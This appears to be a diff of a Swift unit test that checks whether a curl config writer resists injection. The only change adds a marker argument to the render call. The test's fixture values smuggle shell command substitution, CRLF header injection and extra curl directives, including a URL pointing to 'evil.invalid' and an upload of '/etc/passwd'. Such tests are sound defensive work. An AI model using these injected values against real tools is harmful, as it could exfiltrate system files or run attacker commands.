@@ -44,7 +44,7 @@ import TriageCore
             url: "http://127.0.0.1:1/a;touch x?q=$(id)&b=`id`\noutput = /tmp/triage-pwned-7\nnext",
             headers: [HTTPHeader(name: "X-Evil", value: "v\r\nurl = http://evil.invalid/\nheader = Host: evil")],
             queryParameters: [(name: "query", value: "up{job=\"$(id)\"}\nupload-file = /etc/passwd")])
-        let config = CurlConfigWriter.render([request])
+        let config = CurlConfigWriter.render([request], marker: CurlWriteOut.newMarker())
         let lines = config.split(separator: "\n").map(String.init)
         #expect(lines.filter { $0.hasPrefix("url = ") }.count == 1, "\(lines)")
         #expect(lines.filter { $0.hasPrefix("header = ") }.count == 1, "\(lines)")
